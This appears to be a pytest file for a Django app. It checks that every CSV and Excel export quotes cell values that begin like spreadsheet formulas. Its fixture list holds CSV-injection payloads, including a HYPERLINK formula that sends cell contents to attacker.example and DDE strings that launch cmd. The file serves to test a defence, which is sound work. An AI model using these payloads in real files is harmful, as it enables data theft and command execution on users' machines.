"""Every CSV table Tandem offers, downloaded by each role that may download it, with organizations,
a network, a contract, a goal and a survey round whose names begin like spreadsheet formulas: no cell
begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (OWASP, "CSV Injection"), and the
names are there, behind the single quote that makes a spreadsheet read them as text. Each table's
Excel workbook holds the same cells, none of them a formula."""

import csv
import datetime
import io
import re

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from core.figures import FORMULA_STARTS, XLSX_TYPE, Table, csv_cell, csv_response, csv_text
from goals.models import Commitment
from goals.tests.factories import GoalFactory, recent_months, report_approved
from metrics.importers.encoding import table_read
from metrics.importers.tandem import TEMPLATE_COLUMNS, tandem_read
from network import services
from network.models import DataSharing, Instrument, Membership, Network
from network.partnership import assessments, ties
from network.tests.factories import MembershipFactory
from network.tests.test_assessments import BASE_URL, phase_scores, rating
from partners.models import Organization, PopulationOfFocus
from partners.tests.factories import SupplierFactory, counties

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1 Tab Clinic",
    "\r=1+1 Return Clinic",
]


def hostile(text: str) -> bool:
    """A cell a spreadsheet program would take for a formula; a negative number is a number."""
    return text.startswith(FORMULA_STARTS) and not re.fullmatch(r"-[0-9]+(\.[0-9]+)?", text)


@pytest.fixture
def hostile_world(world, django_capture_on_commit_callbacks):
    """The Kansas network, named like a formula, with partners named like formulas that report, hold
    a contract, a tie, a goal's commitment and survey answers; one of them shares with the state."""
    Network.objects.filter(pk=world.network.pk).update(name="-Kansas network", report_lock_days=400)
    Organization.objects.filter(pk=world.supplier.pk).update(name=HOSTILE_NAMES[0])
    Membership.objects.filter(pk=world.membership.pk).update(data_sharing=DataSharing.BACKBONE_AND_STATE)
    world.network.refresh_from_db()
    world.supplier.refresh_from_db()
    population = PopulationOfFocus.objects.first()
    partners = [world.supplier]
    for name in HOSTILE_NAMES[1:]:
        supplier = SupplierFactory(name=name)
        MembershipFactory(network=world.network, organization=supplier, reports_monthly=True)
        partners.append(supplier)
    for supplier in partners:
        supplier.counties_served.set(counties("KS", 2))
        supplier.populations_of_focus.set([population])

    months = recent_months(3)
    with django_capture_on_commit_callbacks(execute=True):
        for n, supplier in enumerate(partners):
            for month in months:
                report_approved(
                    network=world.network,
                    organization=supplier,
                    month=month,
                    totals={"enrollments": 12 + n, "referrals": 30},
                    user=world.admin,
                    seed=n,
                )
    goal = GoalFactory(network=world.network, name="@Goal: enrollment by 2026")
    for supplier in partners:
        Commitment.objects.create(goal=goal, organization=supplier, amount=40)

    today = timezone.localdate()
    services.contract_create(
        network=world.network,
        organization=partners[1],
        title="=Referral pilot contract",
        planned_on=today - datetime.timedelta(days=90),
    )
    ties.tie_record(
        network=world.network, source=partners[0], target=partners[2], kind="referrals", started_on=months[0]
    )

    # A phase check each partner answered, and a closed relationship survey naming one another.
    phase_check = Instrument.objects.get(code="phase-check")
    survey = Instrument.objects.get(code="relationship-survey")
    for supplier in partners:
        supplier.contacts.create(name="Pat", email=f"pat{supplier.pk}@example.org", is_primary=True)
    with django_capture_on_commit_callbacks(execute=True):
        phase_round = assessments.assessment_round_open(
            network=world.network,
            instrument=phase_check,
            title="+Spring check",
            closes_on=today + datetime.timedelta(days=30),
            base_url=BASE_URL,
        )
        survey_round = assessments.assessment_round_open(
            network=world.network,
            instrument=survey,
            title="-Relationship survey",
            closes_on=today + datetime.timedelta(days=30),
            base_url=BASE_URL,
        )
    for invitation in phase_round.invitations.all():
        assessments.assessment_response_submit(
            invitation=invitation, scores=phase_scores(4, 3, 2, 4, 3, 3), phase="middle"
        )
    for invitation in survey_round.invitations.select_related("organization"):
        others = [p for p in partners if p != invitation.organization][:2]
        assessments.assessment_response_submit(
            invitation=invitation,
            relationships=[rating(other, "coordination", (4, 3, 4), (3, 3, 2)) for other in others],
        )
    assessments.assessment_round_close(assessment_round=survey_round)
    return {"phase_round": phase_round, "survey_round": survey_round, "months": months}


def pages(world, rounds) -> dict[str, list[str]]:
    """Every page with a CSV download, and the roles that download it."""
    slug, org, phase, survey = (
        "kansas",
        world.supplier.pk,
        rounds["phase_round"].pk,
        rounds["survey_round"].pk,
    )
    backbone, partner, state, admin = "backbone", "partner", "state_viewer", "admin"
    return {
        reverse("network:network_detail", args=[slug]): [backbone, partner, state, admin],
        reverse("network:engagement", args=[slug]): [backbone, admin],
        reverse("network:contracting", args=[slug]): [backbone, admin],
        reverse("network:state_health", args=["KS"]): [backbone, state, admin],
        reverse("network:map", args=[slug]): [backbone, admin],
        reverse("network:map_trend", args=[slug]): [backbone, partner, state, admin],
        reverse("network:assessment_results", args=[slug, phase]): [backbone, partner, state, admin],
        reverse("network:assessment_results", args=[slug, survey]): [backbone, partner, state, admin],
        reverse("network:assessment_results_by_organization", args=[slug, survey]): [backbone, admin],
        reverse("metrics:completeness", args=[slug]): [backbone, admin],
        reverse("goals:dashboard_network", args=[slug]): [backbone, admin],
        reverse("goals:dashboard_partner", args=[slug, org]): [backbone, partner, admin],
        reverse("goals:dashboard_state", args=["KS"]): [state, admin],
        reverse("goals:dashboard_states"): [admin],
        reverse("equity:network", args=[slug]): [backbone, partner, state, admin],
        reverse("equity:network_coverage", args=[slug]): [backbone, partner, state, admin],
        reverse("equity:state", args=["KS"]): [state, admin],
        reverse("equity:state_coverage", args=["KS"]): [state, admin],
    }


def downloads(client: Client, url: str) -> dict[str, list[list[str]]]:
    """Every CSV table the page offers, by its name, as the rows a spreadsheet program reads; each
    table's Excel workbook is checked against it on the way (`workbook_matches`)."""
    page = client.get(url)
    assert page.status_code == 200, url
    html = page.content.decode()
    tables = {}
    for name in sorted(set(re.findall(r"download=([A-Za-z0-9_-]+)[&\"]", html))):
        response = client.get(url, {"download": name})
        assert response["Content-Type"].startswith("text/csv"), (url, name)
        tables[name] = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
        assert f"download={name}.xlsx" in html, (url, name)  # offered beside the CSV
        workbook = client.get(url, {"download": f"{name}.xlsx"})
        assert workbook["Content-Type"] == XLSX_TYPE, (url, name)
        workbook_matches(workbook.content, tables[name], (url, name))
    return tables


def _number_or_text(text: str) -> float | str:
    """A CSV cell as a workbook holds it: a number, or text without `csv_cell`'s quote (a carriage
    return as a line feed, the line break of a workbook's cell)."""
    if re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", text):
        return float(text)
    return csv_text(text).replace("\r", "\n")


def workbook_matches(content: bytes, rows: list[list[str]], where: tuple) -> None:
    """The workbook holds the CSV's cells, none of them a formula: text as it is (without the CSV's
    quote before a formula's first character), numbers as numbers, a suppressed cell in the same words."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [list(row) for row in sheet.iter_rows()]
    assert not [cell.coordinate for row in cells for cell in row if cell.data_type == "f"], where
    # A number as its value (a workbook stores 0.0 as 0), anything else as its text.
    as_read = [
        [float(c.value) if c.data_type == "n" and c.value is not None else c.value or "" for c in row]
        for row in cells
    ]
    expected = [[_number_or_text(text) for text in row] for row in rows]
    width = max((len(row) for row in expected), default=0)
    assert [row + [""] * (width - len(row)) for row in as_read] == [
        row + [""] * (width - len(row)) for row in expected
    ], where


def test_no_downloaded_cell_begins_like_a_formula(world, hostile_world, client_for):
    with_names: dict[str, set[str]] = {}  # role -> the tables in which a hostile name was found
    for url, roles in pages(world, hostile_world).items():
        for role in roles:
            client = client_for(getattr(world, role))
            tables = downloads(client, url)
            assert tables, (url, role)
            for name, rows in tables.items():
                cells = [cell for row in rows for cell in row]
                assert not [cell for cell in cells if hostile(cell)], (url, role, name)
                if any(cell.startswith("'") and hostile(cell[1:]) for cell in cells):
                    with_names.setdefault(role, set()).add(f"{url}?download={name}")
    # The names came out, as text: in the tables the backbone downloads from the dashboards,
    # engagement, contracting, the map, completeness, the assessments and coverage...
    backbone = "\n".join(sorted(with_names["backbone"]))
    for page in (
        "dashboard",
        "engagement",
        "contracting",
        "/map/",
        "completeness",
        "assessments",
        "coverage",
    ):
        assert page in backbone, page
    assert len(with_names["backbone"]) >= 12, backbone
    # ... and in those of the state viewer, which name the partner sharing with the state.
    assert len(with_names["state_viewer"]) >= 3, with_names["state_viewer"]


def test_negative_numbers_stay_numbers_and_text_that_looks_like_one_is_quoted():
    assert [csv_cell(value) for value in (-3, -2.5, 0, None, "-3", "—", "Suppressed")] == [
        -3,
        -2.5,
        0,
        None,
        "'-3",
        "—",
        "Suppressed",
    ]
    for name in HOSTILE_NAMES:
        assert csv_cell(name) == f"'{name}" and csv_text(csv_cell(name)) == name


def test_a_table_downloads_negative_numbers_as_numbers_and_text_as_text():
    table = Table(caption="Change", columns=["Partner", "Change"], rows=[["-Clinic", -3], ["Other", -2.5]])
    text = csv_response(table).content.decode("utf-8-sig")
    assert text.splitlines() == ["Partner,Change", "'-Clinic,-3", "Other,-2.5"]


def test_the_upload_template_quotes_a_code_that_begins_like_a_formula_and_reads_it_back(world, client_for):
    Organization.objects.filter(pk=world.supplier.pk).update(dprp_org_code="=1+1")
    url = reverse("metrics:upload_template", args=["kansas", world.supplier.pk])
    response = client_for(world.partner).get(url, {"month": f"{recent_months(1)[0]:%Y-%m}"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == TEMPLATE_COLUMNS
    assert {row[0] for row in rows[1:]} == {"'=1+1"}
    assert not [cell for row in rows for cell in row if hostile(cell)]
    # The template comes back as it went out (or as a spreadsheet saves it, without the quote).
    for text in (response.content.decode(), response.content.decode().replace("'=1+1", "=1+1")):
        table, problems = table_read(text.encode())
        assert table is not None and not problems
        read = tandem_read(table, org_code="=1+1", measures=["enrollments"])
        assert not [problem for problem in read.problems if problem.column == "org_code"]
